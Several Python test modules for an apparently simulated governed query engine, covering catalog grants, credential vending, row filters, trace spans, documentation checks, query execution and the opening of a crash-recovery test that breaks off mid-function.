        catalog.set_row_filter("main.s.t", rf, ctx(catalog, "owner"))
        meta = catalog.relation_metadata("main.s.t", ctx(catalog, "alice"), STANDARD)
        assert meta.row_filter is not None

    def test_view_text_hidden_from_dedicated(self, catalog):
        catalog.create_view("main.s.v", "SELECT id FROM main.s.t", owner="owner")
        catalog.grant("USE_CATALOG", "main", "alice")
        catalog.grant("USE_SCHEMA", "main.s", "alice")
        catalog.grant("SELECT", "main.s.v", "alice")
        meta = catalog.relation_metadata("main.s.v", ctx(catalog, "alice"), DEDICATED)
        assert meta.view_text is None
        assert ANNOTATION_REQUIRES_EXTERNAL_FGAC in meta.annotations


class TestCredentialVending:
    def _grant_all(self, catalog):
        catalog.grant("USE_CATALOG", "main", "alice")
        catalog.grant("USE_SCHEMA", "main.s", "alice")
        catalog.grant("SELECT", "main.s.t", "alice")

    def test_vend_read(self, catalog):
        self._grant_all(catalog)
        cred = catalog.vend_credential(
            ctx(catalog, "alice"), "main.s.t", {READ, LIST}, STANDARD
        )
        assert cred.identity == "alice"
        table = catalog.get_table("main.s.t")
        assert cred.authorizes(f"{table.storage_root}/data/x", READ, 0)

    def test_vend_write_requires_modify(self, catalog):
        self._grant_all(catalog)
        with pytest.raises(PermissionDenied):
            catalog.vend_credential(
                ctx(catalog, "alice"), "main.s.t", {WRITE}, STANDARD
            )

    def test_vend_refused_for_policy_table_on_dedicated(self, catalog):
        self._grant_all(catalog)
        rf = RowFilter("main.s.t", parse_expression("region = 'US'"), "owner")
        catalog.set_row_filter("main.s.t", rf, ctx(catalog, "owner"))
        with pytest.raises(PermissionDenied, match="DIRECT_ACCESS"):
            catalog.vend_credential(
                ctx(catalog, "alice"), "main.s.t", {READ, LIST}, DEDICATED
            )

    def test_vend_allowed_for_policy_table_on_standard(self, catalog):
        self._grant_all(catalog)
        rf = RowFilter("main.s.t", parse_expression("region = 'US'"), "owner")
        catalog.set_row_filter("main.s.t", rf, ctx(catalog, "owner"))
        cred = catalog.vend_credential(
            ctx(catalog, "alice"), "main.s.t", {READ, LIST}, STANDARD
        )
        assert cred is not None

    def test_vend_audited(self, catalog):
        self._grant_all(catalog)
        catalog.vend_credential(ctx(catalog, "alice"), "main.s.t", {READ}, STANDARD)
        events = catalog.audit.events(action="catalog.vend_credential")
        assert events and events[-1].principal == "alice"


class TestWriteAndFunctions:
    def test_write_and_read_back(self, catalog):
        owner = ctx(catalog, "owner")
        catalog.write_table("main.s.t", {"id": [1, 2], "region": ["US", "EU"]}, owner)
        table = catalog.get_table("main.s.t")
        cred = catalog.vend_credential(owner, "main.s.t", {READ, LIST}, STANDARD)
        data = catalog.table_storage(table).read_all(cred)
        assert data["id"] == [1, 2]

    def test_write_requires_modify(self, catalog):
        with pytest.raises(PermissionDenied):
            catalog.write_table("main.s.t", {"id": [1], "region": ["US"]},
                                ctx(catalog, "bob"))

    def test_function_execute_check(self, catalog):
        @udf("int")
        def f(x):
            return x

        catalog.create_function("main.s.f", f, owner="owner")
        with pytest.raises(PermissionDenied):
            catalog.get_function("main.s.f", ctx(catalog, "bob"))
        catalog.grant("USE_CATALOG", "main", "bob")
        catalog.grant("USE_SCHEMA", "main.s", "bob")
        catalog.grant("EXECUTE", "main.s.f", "bob")
        resolved = catalog.get_function("main.s.f", ctx(catalog, "bob"))
        assert resolved.owner == "owner", "cataloged UDF keeps its owner's trust domain"
        assert resolved.cataloged
