"""End-to-end trace propagation: one governed query, one trace tree.

These tests exercise the tentpole invariant: a query entering through the
Connect service flows through every layer — pipeline stages, optimizer,
executor tasks, sandbox dispatch, credential vending, the eFGAC gateway —
under one client-visible trace id.
"""

from __future__ import annotations

import pytest

from repro.connect.channel import FaultInjector
from repro.connect.client import catalog_function, col, udf


@pytest.fixture
def governed(workspace, standard_cluster, admin_client):
    """Row-filtered orders table on a Standard cluster."""
    admin_client.sql(
        "ALTER TABLE main.sales.orders SET ROW FILTER (region = 'US')"
    )
    return workspace


def spans_of(cluster, client):
    return cluster.backend.telemetry.spans(trace_id=client.last_trace_id)


class TestSingleTraceTree:
    def test_governed_query_produces_six_span_kinds(
        self, governed, standard_cluster
    ):
        alice = standard_cluster.connect("alice")

        @udf("float")
        def boost(x):
            return x * 2.0

        rows = (
            alice.table("main.sales.orders")
            .select(boost(col("amount")).alias("boosted"))
            .collect()
        )
        assert len(rows) == 2  # row filter leaves the two US rows

        telemetry = standard_cluster.backend.telemetry
        trace_id = alice.last_trace_id
        kinds = telemetry.span_kinds(trace_id)
        assert {
            "service.operation",
            "pipeline.stage",
            "optimizer",
            "executor.task",
            "sandbox.exec",
            "credential.vend",
        } <= kinds, f"missing span kinds; got {kinds}"

        spans = telemetry.spans(trace_id=trace_id)
        assert all(s.trace_id == trace_id for s in spans)
        # Everything in the trace is attributed to the querying user.
        assert {s.user for s in spans} == {"alice"}

    def test_all_spans_connect_to_one_root(self, governed, standard_cluster):
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        spans = spans_of(standard_cluster, alice)
        by_id = {s.span_id: s for s in spans}
        roots = [s for s in spans if s.parent_id not in by_id]
        assert len(roots) == 1
        assert roots[0].name == "execute_plan"
        assert roots[0].kind == "service.operation"

    def test_pipeline_stages_recorded_in_order(self, governed, standard_cluster):
        from repro.core.pipeline import STAGE_ORDER

        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        stage_spans = [
            s
            for s in spans_of(standard_cluster, alice)
            if s.kind == "pipeline.stage"
        ]
        stages = [s.attributes["stage"] for s in sorted(stage_spans, key=lambda s: s.start)]
        assert stages == list(STAGE_ORDER)

    def test_policy_decisions_recorded_as_events(
        self, governed, standard_cluster
    ):
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        resolve_span = next(
            s
            for s in spans_of(standard_cluster, alice)
            if s.kind == "pipeline.stage"
            and s.attributes["stage"] == "resolve-secure"
        )
        events = {e.name for e in resolve_span.events}
        assert "row-filter-injected" in events

    def test_credential_vend_span_names_identity(
        self, governed, standard_cluster
    ):
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        vend = [
            s
            for s in spans_of(standard_cluster, alice)
            if s.kind == "credential.vend"
        ]
        assert vend and all(s.attributes["identity"] == "alice" for s in vend)

    def test_distinct_queries_get_distinct_traces(
        self, governed, standard_cluster
    ):
        alice = standard_cluster.connect("alice")
        alice.table("main.sales.orders").collect()
        first = alice.last_trace_id
        alice.table("main.sales.orders").collect()
        second = alice.last_trace_id
        assert first != second
        telemetry = standard_cluster.backend.telemetry
        assert telemetry.spans(trace_id=first)
        assert telemetry.spans(trace_id=second)


class TestReattachSameTrace:
    def test_reattach_after_fault_resumes_same_trace(
        self, workspace, standard_cluster, admin_client
    ):
        faults = FaultInjector(drop_stream_after=1, times=1)
        alice = standard_cluster.connect("alice", faults=faults)
        rows = alice.table("main.sales.orders").collect()
        assert len(rows) == 4  # recovery is transparent

        service_spans = standard_cluster.backend.telemetry.spans(
            trace_id=alice.last_trace_id, kind="service.operation"
        )
        names = [s.name for s in service_spans]
        assert "execute_plan" in names
        assert "reattach_execute" in names
        # Both service operations belong to the one client-sent trace.
        assert {s.trace_id for s in service_spans} == {alice.last_trace_id}


class TestTrustDomainSpans:
    def test_trust_domains_never_share_a_sandbox_span(
        self, workspace, standard_cluster, admin_client
    ):
        from repro.engine.udf import udf as engine_udf

        cat = workspace.catalog

        @engine_udf("float")
        def plus1(x):
            return x + 1.0

        cat.create_function("main.sales.by_admin", plus1, owner="admin")
        cat.grant("EXECUTE", "main.sales.by_admin", "analysts")

        alice = standard_cluster.connect("alice")

        @udf("float")
        def mine(x):
            return x - 1.0

        alice.table("main.sales.orders").select(
            catalog_function("main.sales.by_admin")(col("amount")).alias("a"),
            mine(col("amount")).alias("b"),
        ).collect()

        exec_spans = standard_cluster.backend.telemetry.spans(
            trace_id=alice.last_trace_id, kind="sandbox.exec"
        )
        domains = {s.attributes["trust_domain"] for s in exec_spans}
        assert domains == {"admin", "alice"}
        # Each sandbox.exec span runs exactly one trust domain's code, in
        # that domain's sandbox.
        sandboxes = {
            s.attributes["trust_domain"]: s.attributes["sandbox"]
            for s in exec_spans
        }
        assert sandboxes["admin"] != sandboxes["alice"]

    def test_cold_start_then_warm_reuse_visible_in_trace(
        self, workspace, standard_cluster, admin_client
    ):
        alice = standard_cluster.connect("alice")

        @udf("float")
        def f(x):
            return x

        df = alice.table("main.sales.orders").select(f(col("amount")).alias("v"))
        df.collect()
        first_trace = alice.last_trace_id
        df.collect()
        second_trace = alice.last_trace_id

        telemetry = standard_cluster.backend.telemetry
        assert telemetry.spans(trace_id=first_trace, kind="sandbox.acquire")
        # Second run reuses the warm sandbox: no acquire span, but the
        # reuse is recorded as an event in the second trace.
        assert not telemetry.spans(trace_id=second_trace, kind="sandbox.acquire")
        events = {
            e.name
            for s in telemetry.spans(trace_id=second_trace)
            for e in s.events
        }
        assert "sandbox-reused" in events


class TestEfgacChildTrace:
    def test_remote_subplan_is_child_of_originating_query(
        self, governed, standard_cluster
    ):
        dedicated = governed.create_dedicated_cluster(
            assigned_user="alice", name="alice-ded"
        )
        alice = dedicated.connect("alice")
        rows = alice.table("main.sales.orders").collect()
        assert len(rows) == 2

        telemetry = dedicated.backend.telemetry
        trace_id = alice.last_trace_id
        spans = telemetry.spans(trace_id=trace_id)
        (remote,) = [s for s in spans if s.kind == "remote.subquery"]
        assert remote.attributes["tables"] == ["main.sales.orders"]

        # The serverless cluster executed the sub-plan under the same trace,
        # parented (transitively) on the remote.subquery span.
        serverless_spans = [
            s for s in spans if s.attributes.get("cluster", "").startswith("serverless-")
        ]
        assert serverless_spans
        by_id = {s.span_id: s for s in spans}

        def ancestors(span):
            while span.parent_id in by_id:
                span = by_id[span.parent_id]
                yield span

        for span in serverless_spans:
            assert remote in list(ancestors(span)), (
                f"{span.name} not parented under the remote.subquery span"
            )

        # Credential vending for the governed scan happened remotely, still
        # inside this one trace.
        assert any(s.kind == "credential.vend" for s in serverless_spans)
