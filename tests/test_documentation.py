"""Documentation hygiene: every public module, class and function in the
library carries a docstring (deliverable (e): doc comments on every public
item), the README's system-tables listing matches the live registry, and
``benchmarks/RESULTS.txt`` is exactly the rendering of the checked-in
``BENCH_*.json`` records."""

import importlib
import inspect
import pkgutil
import re
import sys
from pathlib import Path

import pytest

import repro
from repro.core.enforcement import GovernedResolver


def _public_modules():
    modules = [repro]
    for info in pkgutil.walk_packages(repro.__path__, prefix="repro."):
        if any(part.startswith("_") for part in info.name.split(".")):
            continue
        modules.append(importlib.import_module(info.name))
    return modules


MODULES = _public_modules()


@pytest.mark.parametrize("module", MODULES, ids=lambda m: m.__name__)
def test_module_has_docstring(module):
    assert module.__doc__ and module.__doc__.strip(), module.__name__


@pytest.mark.parametrize("module", MODULES, ids=lambda m: m.__name__)
def test_public_classes_and_functions_documented(module):
    undocumented = []
    for name, obj in vars(module).items():
        if name.startswith("_"):
            continue
        if not (inspect.isclass(obj) or inspect.isfunction(obj)):
            continue
        if getattr(obj, "__module__", None) != module.__name__:
            continue  # re-exports are documented at their definition site
        if not (obj.__doc__ and obj.__doc__.strip()) and not (
            inspect.isfunction(obj) and _is_trivial(obj)
        ):
            undocumented.append(f"{module.__name__}.{name}")
        if inspect.isclass(obj):
            for member_name, member in vars(obj).items():
                if member_name.startswith("_"):
                    continue
                if not inspect.isfunction(member):
                    continue
                if _overrides_documented_base(obj, member_name):
                    continue  # docstring inherited from the base definition
                if member_name in _PROTOCOL_METHODS and (
                    obj.__doc__ and obj.__doc__.strip()
                ):
                    # Structural-protocol implementations (optimizer rules,
                    # data sources, sandboxes): the contract is documented on
                    # the protocol; the class docstring covers the behaviour.
                    continue
                if member.__doc__ is None and not _is_trivial(member):
                    undocumented.append(
                        f"{module.__name__}.{name}.{member_name}"
                    )
    assert not undocumented, f"undocumented public items: {undocumented}"


#: Methods defined by documented structural protocols elsewhere.
_PROTOCOL_METHODS = frozenset({"apply", "eval", "execute", "scan", "invoke",
                               "invoke_many", "close", "handle",
                               "handle_stream", "resolve_relation",
                               "authenticate", "execute_relation",
                               "execute_command", "analyze_relation",
                               "on_session_closed", "run_udf", "run_fused"})


def _overrides_documented_base(cls, member_name: str) -> bool:
    """True if a base class (or protocol) documents this method already."""
    for base in cls.__mro__[1:]:
        base_member = base.__dict__.get(member_name)
        if base_member is not None and getattr(base_member, "__doc__", None):
            return True
    return False


def _is_trivial(func) -> bool:
    """Short delegating functions (≤ 7 source lines) may skip docstrings;
    their names and signatures are the documentation."""
    try:
        source = inspect.getsource(func)
    except OSError:
        return True
    lines = [ln for ln in source.strip().splitlines() if ln.strip()]
    return len(lines) <= 7


def test_readme_lists_every_system_table():
    """The README's system-tables table names every registered
    ``system.access.*`` table — no more, no fewer.

    The registry (``GovernedResolver.SYSTEM_TABLES``) is the source of
    truth; this test is what keeps the doc from silently rotting when a new
    introspection table is added.
    """
    readme = (Path(__file__).parent.parent / "README.md").read_text()
    match = re.search(
        r"### System tables\n(.*?)(?=\n#{2,3} )", readme, flags=re.DOTALL
    )
    assert match, "README has no '### System tables' section"
    documented = set(re.findall(r"`(system\.access\.[a-z_]+)`", match.group(1)))
    registered = set(GovernedResolver.SYSTEM_TABLES)
    assert documented == registered, (
        f"README system-tables listing is out of sync: "
        f"missing {sorted(registered - documented)}, "
        f"extra {sorted(documented - registered)}"
    )


def test_results_txt_is_generated_from_bench_records():
    """``benchmarks/RESULTS.txt`` must byte-match the deterministic rendering
    of the checked-in ``BENCH_*.json`` set — a benchmark run that updates a
    JSON record without regenerating the text file fails here, so the two
    can never drift apart again."""
    bench_dir = Path(__file__).parent.parent / "benchmarks"
    sys.path.insert(0, str(bench_dir))
    try:
        from harness import render_bench_records
    finally:
        sys.path.remove(str(bench_dir))
    expected = render_bench_records(bench_dir)
    actual = (bench_dir / "RESULTS.txt").read_text()
    assert actual == expected, (
        "benchmarks/RESULTS.txt drifted from the BENCH_*.json records — "
        "regenerate it with: PYTHONPATH=src python benchmarks/harness.py"
    )


def test_design_threat_matrix_matches_attack_registry():
    """DESIGN.md §12's threat-model matrix names every registered attack
    scenario, and names no scenario that does not exist.

    The attack registry (``repro.attacks.registry``) is the source of
    truth; this diff is what keeps the threat-model chapter honest when
    scenarios are added, renamed or removed.
    """
    from repro.attacks import registry as attack_registry

    attack_registry.load_all_scenarios()
    design = (Path(__file__).parent.parent / "DESIGN.md").read_text()
    match = re.search(
        r"## 12\. Threat model.*?(?=\n## 13\.)", design, flags=re.DOTALL
    )
    assert match, "DESIGN.md has no '## 12. Threat model' chapter"
    chapter = match.group(0)
    families = "|".join(sorted(attack_registry.technique_families()))
    prefixes = {f.split("-")[0] for f in attack_registry.technique_families()}
    prefixes |= {"udf", "plan", "credential", "cache", "admission"}
    documented = {
        token
        for token in re.findall(r"`([a-z-]+)`", chapter)
        if token.split("-")[0] in prefixes and "-" in token
        and token not in families.split("|")
    }
    registered = set(attack_registry.scenario_names())
    assert documented == registered, (
        f"DESIGN.md threat matrix is out of sync with the attack registry: "
        f"missing {sorted(registered - documented)}, "
        f"stale {sorted(documented - registered)}"
    )
