"""Unit tests for the tracing/metrics spine and the QueryContext."""

from __future__ import annotations

import json

import pytest

from repro.common.clock import VirtualClock
from repro.common.context import (
    QueryContext,
    QueryDeadlineExceeded,
    current_context,
    span_or_null,
)
from repro.common.telemetry import JsonLinesExporter, Telemetry


@pytest.fixture
def clock():
    return VirtualClock()


@pytest.fixture
def telemetry(clock):
    return Telemetry(clock=clock)


@pytest.fixture
def ctx(telemetry):
    return QueryContext.create(user="alice", telemetry=telemetry)


class TestSpans:
    def test_nested_spans_share_trace_and_parent(self, ctx, telemetry, clock):
        with ctx.span("outer", "service.operation") as outer:
            clock.sleep(1.0)
            with ctx.span("inner", "pipeline.stage") as inner:
                clock.sleep(0.5)
        assert inner.trace_id == outer.trace_id == ctx.trace_id
        assert inner.parent_id == outer.span_id
        assert outer.parent_id is None
        assert inner.duration == pytest.approx(0.5)
        assert outer.duration == pytest.approx(1.5)
        assert all(s.user == "alice" for s in telemetry.spans())

    def test_exception_marks_span_error_and_propagates(self, ctx, telemetry):
        with pytest.raises(ValueError):
            with ctx.span("doomed", "pipeline.stage"):
                raise ValueError("boom")
        (span,) = telemetry.spans(name="doomed")
        assert span.status == "error"
        assert span.finished

    def test_span_sets_ambient_context(self, ctx):
        assert current_context() is None
        with ctx.span("op", "service.operation"):
            assert current_context() is ctx
        assert current_context() is None

    def test_events_attach_to_current_span(self, ctx, telemetry):
        with ctx.span("op", "service.operation"):
            ctx.event("row-filter-injected", table="t")
        (span,) = telemetry.spans(name="op")
        assert [e.name for e in span.events] == ["row-filter-injected"]
        assert span.events[0].attributes == {"table": "t"}

    def test_event_without_open_span_is_noop(self, ctx):
        ctx.event("orphan")  # must not raise

    def test_span_or_null_without_context(self):
        with span_or_null(None, "x", "y") as span:
            assert span is None

    def test_trace_tree_renders_nesting(self, ctx, telemetry):
        with ctx.span("root", "service.operation"):
            with ctx.span("leaf", "pipeline.stage"):
                pass
        tree = telemetry.trace_tree(ctx.trace_id)
        root_line, leaf_line = tree.splitlines()
        assert root_line.startswith("root [service.operation]")
        assert leaf_line.startswith("  leaf [pipeline.stage]")

    def test_span_kind_filters(self, ctx, telemetry):
        with ctx.span("a", "k1"):
            pass
        with ctx.span("b", "k2"):
            pass
        assert [s.name for s in telemetry.spans(kind="k2")] == ["b"]
        assert telemetry.span_kinds(ctx.trace_id) == {"k1", "k2"}


class TestChildContext:
    def test_child_joins_same_trace_under_current_span(self, ctx, telemetry):
        with ctx.span("parent-op", "service.operation") as parent_span:
            child = ctx.child(user="serverless", cluster_id="sls-0")
            with child.span("remote-op", "pipeline.stage") as child_span:
                pass
        assert child.trace_id == ctx.trace_id
        assert child_span.parent_id == parent_span.span_id
        assert child_span.user == "serverless"
        assert child_span.attributes["cluster"] == "sls-0"


class TestDeadline:
    def test_deadline_exceeded_raises(self, telemetry, clock):
        ctx = QueryContext.create(
            user="u", telemetry=telemetry, deadline_seconds=10.0
        )
        ctx.check_deadline()  # fine while time remains
        clock.sleep(11.0)
        with pytest.raises(QueryDeadlineExceeded):
            ctx.check_deadline(where="stage 'execute'")

    def test_remaining_unset_without_deadline(self, ctx):
        assert ctx.remaining() is None


class TestMetrics:
    def test_counters_accumulate(self, telemetry):
        telemetry.counter("credentials.issued").inc()
        telemetry.counter("credentials.issued").inc(2)
        assert telemetry.counters()["credentials.issued"] == 3

    def test_histogram_percentile_and_totals(self, telemetry):
        h = telemetry.histogram("lat")
        for v in (1.0, 2.0, 3.0, 4.0):
            h.observe(v)
        assert h.count == 4
        assert h.total == pytest.approx(10.0)
        assert h.percentile(0) == 1.0
        assert h.percentile(100) == 4.0

    def test_finished_spans_feed_duration_histograms(self, ctx, telemetry, clock):
        with ctx.span("op", "executor.task"):
            clock.sleep(2.0)
        h = telemetry.histogram("span.executor.task.seconds")
        assert h.count == 1
        assert h.percentile(50) == pytest.approx(2.0)


class TestExporters:
    def test_jsonlines_exporter_appends_finished_spans(
        self, telemetry, ctx, tmp_path
    ):
        path = tmp_path / "spans.jsonl"
        telemetry.add_exporter(JsonLinesExporter(str(path)))
        with ctx.span("outer", "service.operation"):
            with ctx.span("inner", "pipeline.stage"):
                pass
        records = [
            json.loads(line) for line in path.read_text().splitlines()
        ]
        # Finish order: inner closes first.
        assert [r["name"] for r in records] == ["inner", "outer"]
        assert records[0]["trace_id"] == ctx.trace_id
        assert records[0]["user"] == "alice"
