"""Tests for logical plans, analyzer, and physical execution."""

import pytest

from repro.engine.aggregates import AggregateCall
from repro.engine.analyzer import Analyzer, DictResolver
from repro.engine.executor import LocalDataSource, QueryEngine
from repro.engine.expressions import (
    Alias,
    Arithmetic,
    BooleanOp,
    Comparison,
    SortOrder,
    Star,
    col,
    lit,
)
from repro.engine.logical import (
    Aggregate,
    Distinct,
    Filter,
    Join,
    Limit,
    LocalRelation,
    Project,
    Range,
    Scan,
    Sort,
    SubqueryAlias,
    TableRef,
    Union,
    UnresolvedRelation,
)
from repro.engine.types import FLOAT, INT, STRING, Field, Schema, schema_of
from repro.errors import AnalysisError

SALES = Schema(
    (Field("id", INT), Field("dept", STRING), Field("amount", FLOAT))
)
SALES_DATA = LocalRelation(
    SALES,
    [[1, 2, 3, 4], ["a", "b", "a", "b"], [10.0, 20.0, 30.0, 40.0]],
)


@pytest.fixture
def engine():
    resolver = DictResolver({"sales": SALES_DATA})
    resolver.register(
        "depts",
        LocalRelation(
            schema_of(dept=STRING, label=STRING), [["a", "b", "c"], ["A", "B", "C"]]
        ),
    )
    return QueryEngine(resolver)


def rel(name="sales"):
    return UnresolvedRelation(name)


class TestAnalyzer:
    def test_unknown_relation(self, engine):
        with pytest.raises(AnalysisError, match="not found"):
            engine.analyze(rel("ghost"))

    def test_star_expansion(self, engine):
        plan = engine.analyze(Project(rel(), [Star()]))
        assert len(plan.schema) == 3

    def test_qualified_star(self, engine):
        plan = engine.analyze(
            Project(SubqueryAlias(rel(), "s"), [Star(qualifier="s")])
        )
        assert len(plan.schema) == 3

    def test_filter_must_be_boolean(self, engine):
        with pytest.raises(AnalysisError, match="boolean"):
            engine.analyze(Filter(rel(), Arithmetic("+", col("id"), lit(1))))

    def test_aggregate_in_where_rejected(self, engine):
        with pytest.raises(AnalysisError, match="HAVING"):
            engine.analyze(
                Filter(rel(), Comparison(">", AggregateCall("sum", col("amount")), lit(1)))
            )

    def test_aggregate_in_project_rejected(self, engine):
        with pytest.raises(AnalysisError, match="GROUP BY"):
            engine.analyze(Project(rel(), [AggregateCall("sum", col("amount"))]))

    def test_ungrouped_column_rejected(self, engine):
        with pytest.raises(AnalysisError, match="GROUP BY"):
            engine.analyze(
                Aggregate(rel(), [col("dept")], [col("id")])
            )

    def test_union_arity_checked(self, engine):
        with pytest.raises(AnalysisError, match="column counts"):
            engine.analyze(
                Union([Project(rel(), [col("id")]), Project(rel(), [col("id"), col("dept")])])
            )

    def test_recursive_view_guard(self):
        resolver = DictResolver()
        resolver.register("v", UnresolvedRelation("v"))
        with pytest.raises(AnalysisError, match="depth"):
            Analyzer(resolver).analyze(UnresolvedRelation("v"))

    def test_join_condition_binds_both_sides(self, engine):
        plan = Join(
            SubqueryAlias(rel(), "s"),
            SubqueryAlias(rel("depts"), "d"),
            "inner",
            Comparison("=", col("s.dept"), col("d.dept")),
        )
        analyzed = engine.analyze(plan)
        assert analyzed.resolved


class TestExecution:
    def test_range(self, engine):
        result = engine.execute(Range(0, 5))
        assert result.column("id") == [0, 1, 2, 3, 4]

    def test_range_with_step(self, engine):
        assert engine.execute(Range(1, 10, 3)).column("id") == [1, 4, 7]

    def test_limit_offset(self, engine):
        result = engine.execute(Limit(rel(), 2, offset=1))
        assert result.column("id") == [2, 3]

    def test_distinct(self, engine):
        result = engine.execute(Distinct(Project(rel(), [col("dept")])))
        assert sorted(result.column("dept")) == ["a", "b"]

    def test_union_all(self, engine):
        plan = Union([Project(rel(), [col("id")]), Project(rel(), [col("id")])])
        assert engine.execute(plan).batch.num_rows == 8

    def test_sort_desc_nulls(self, engine):
        data = LocalRelation(schema_of(x=INT), [[3, None, 1]])
        resolver = DictResolver({"t": data})
        e = QueryEngine(resolver)
        result = e.execute(
            Sort(rel("t"), [SortOrder(col("x"), ascending=False, nulls_first=False)])
        )
        assert result.column("x") == [3, 1, None]

    def test_sort_multi_key(self, engine):
        result = engine.execute(
            Sort(
                rel(),
                [
                    SortOrder(col("dept"), ascending=True),
                    SortOrder(col("amount"), ascending=False),
                ],
            )
        )
        assert result.column("id") == [3, 1, 4, 2]

    def test_global_aggregate_empty_input(self, engine):
        empty = LocalRelation(SALES, [[], [], []])
        resolver = DictResolver({"e": empty})
        e = QueryEngine(resolver)
        result = e.execute(
            Aggregate(rel("e"), [], [Alias(AggregateCall("count", None), "n"),
                                     Alias(AggregateCall("sum", col("amount")), "s")])
        )
        assert result.rows() == [(0, None)]

    def test_avg_ignores_nulls(self, engine):
        data = LocalRelation(schema_of(x=FLOAT), [[1.0, None, 3.0]])
        e = QueryEngine(DictResolver({"t": data}))
        result = e.execute(
            Aggregate(rel("t"), [], [Alias(AggregateCall("avg", col("x")), "a")])
        )
        assert result.rows() == [(2.0,)]

    def test_count_star_counts_nulls(self, engine):
        data = LocalRelation(schema_of(x=FLOAT), [[1.0, None]])
        e = QueryEngine(DictResolver({"t": data}))
        result = e.execute(
            Aggregate(
                rel("t"),
                [],
                [
                    Alias(AggregateCall("count", None), "all_rows"),
                    Alias(AggregateCall("count", col("x")), "non_null"),
                ],
            )
        )
        assert result.rows() == [(2, 1)]

    def test_count_distinct(self, engine):
        result = engine.execute(
            Aggregate(rel(), [], [Alias(AggregateCall("count", col("dept"), distinct=True), "d")])
        )
        assert result.rows() == [(2,)]

    def test_min_max(self, engine):
        result = engine.execute(
            Aggregate(
                rel(),
                [],
                [
                    Alias(AggregateCall("min", col("amount")), "lo"),
                    Alias(AggregateCall("max", col("amount")), "hi"),
                ],
            )
        )
        assert result.rows() == [(10.0, 40.0)]

    def test_aggregate_expression_over_calls(self, engine):
        # sum(amount) / count(*) computed from two aggregate states.
        expr = Alias(
            Arithmetic(
                "/", AggregateCall("sum", col("amount")), AggregateCall("count", None)
            ),
            "mean",
        )
        result = engine.execute(Aggregate(rel(), [], [expr]))
        assert result.rows() == [(25.0,)]


class TestJoins:
    def _join(self, engine, how):
        left = SubqueryAlias(rel(), "s")
        right = SubqueryAlias(rel("depts"), "d")
        return engine.execute(
            Join(left, right, how, Comparison("=", col("s.dept"), col("d.dept")))
        )

    def test_inner(self, engine):
        assert self._join(engine, "inner").batch.num_rows == 4

    def test_left(self, engine):
        # Every sales row has a dept match; arity check instead.
        result = self._join(engine, "left")
        assert result.batch.num_rows == 4
        assert result.batch.num_columns == 5

    def test_right_includes_unmatched(self, engine):
        result = self._join(engine, "right")
        labels = result.column("label")
        assert "C" in labels  # dept 'c' has no sales
        assert result.batch.num_rows == 5

    def test_full_outer(self, engine):
        result = self._join(engine, "full")
        assert result.batch.num_rows == 5

    def test_semi(self, engine):
        result = self._join(engine, "semi")
        assert result.batch.num_columns == 3
        assert result.batch.num_rows == 4

    def test_anti(self, engine):
        # depts ANTI JOIN sales on dept: only 'c' remains.
        left = SubqueryAlias(rel("depts"), "d")
        right = SubqueryAlias(rel(), "s")
        result = engine.execute(
            Join(left, right, "anti", Comparison("=", col("d.dept"), col("s.dept")))
        )
        assert result.column("dept") == ["c"]

    def test_cross(self, engine):
        result = engine.execute(
            Join(SubqueryAlias(rel(), "s"), SubqueryAlias(rel("depts"), "d"), "cross")
        )
        assert result.batch.num_rows == 12

    def test_non_equi_condition(self, engine):
        left = SubqueryAlias(rel(), "s")
        right = SubqueryAlias(rel(), "t")
        result = engine.execute(
            Join(
                left,
                right,
                "inner",
                BooleanOp(
                    "AND",
                    Comparison("=", col("s.dept"), col("t.dept")),
                    Comparison("<", col("s.id"), col("t.id")),
                ),
            )
        )
        assert result.batch.num_rows == 2

    def test_pure_inequality_join(self, engine):
        result = engine.execute(
            Join(
                SubqueryAlias(rel(), "s"),
                SubqueryAlias(rel(), "t"),
                "inner",
                Comparison("<", col("s.amount"), col("t.amount")),
            )
        )
        assert result.batch.num_rows == 6

    def test_join_null_keys_never_match(self, engine):
        data = LocalRelation(schema_of(k=STRING), [[None, "a"]])
        resolver = DictResolver({"l": data, "r": data})
        e = QueryEngine(resolver)
        result = e.execute(
            Join(
                SubqueryAlias(rel("l"), "l"),
                SubqueryAlias(rel("r"), "r"),
                "inner",
                Comparison("=", col("l.k"), col("r.k")),
            )
        )
        assert result.batch.num_rows == 1  # only 'a' = 'a'


class TestScanPushdownExecution:
    def test_pushed_filter_and_pruning(self):
        source = LocalDataSource()
        tref = TableRef("cat.s.t", SALES)
        source.register(
            "cat.s.t",
            {"id": [1, 2, 3], "dept": ["a", "b", "a"], "amount": [1.0, 2.0, 3.0]},
        )
        resolver = DictResolver({"cat.s.t": Scan(tref)})
        engine = QueryEngine(resolver, data_source=source)
        plan = Project(
            Filter(rel("cat.s.t"), Comparison("=", col("dept"), lit("a"))),
            [col("id")],
        )
        result = engine.execute(plan)
        assert result.rows() == [(1,), (3,)]
        # Scan read all rows (object granularity) but only pushed rows flow.
        assert result.metrics.rows_scanned == 3
        explain = result.optimized_plan.explain()
        assert "filters=" in explain and "columns=" in explain
