"""Crash recovery for the governed write path (PR-10, tentpole part 2).

Models a writer killed at the ``txn.commit`` chaos point: the staged data
file survives (a killed process runs no cleanup), the log either never
gained the version or gained a torn (partially published) entry. A fresh
cluster over the same store must resolve the snapshot to the last durable
commit, and an explicit recovery sweep must roll torn tips back and
garbage-collect the orphans.
"""

from __future__ import annotations

import pytest

from repro.common.faults import FaultSpec
from repro.errors import TransactionAbortedError
from repro.platform import Workspace
from repro.storage.object_store import ObjectStore

ORDERS = "main.sales.orders"


@pytest.fixture
def workspace():
    ws = Workspace()
    ws.add_user("admin", admin=True)
    cat = ws.catalog
    cat.create_catalog("main", owner="admin")
    cat.create_schema("main.sales", owner="admin")
    yield ws
    ws.shutdown()


@pytest.fixture
def admin(workspace):
    client = workspace.create_standard_cluster().connect("admin")
    client.sql(
        f"CREATE TABLE {ORDERS} (id int, region string, amount float)"
    )
    client.sql(
        f"INSERT INTO {ORDERS} VALUES (1,'US',10.0),(2,'EU',20.0)"
    )
    return client


def rows(client, sql):
    return sorted(client.sql(sql).collect())


def _kill_writer_at_commit(workspace, client, monkeypatch, sql):
    """Run ``sql`` with the writer dying at ``txn.commit``.

    The fault injector raises at the commit point on every attempt (so the
    retry ladder cannot absorb it), and the abort path's cleanup deletes
    are suppressed — a killed process runs no ``except`` blocks, so its
    staged files stay behind as orphans.
    """
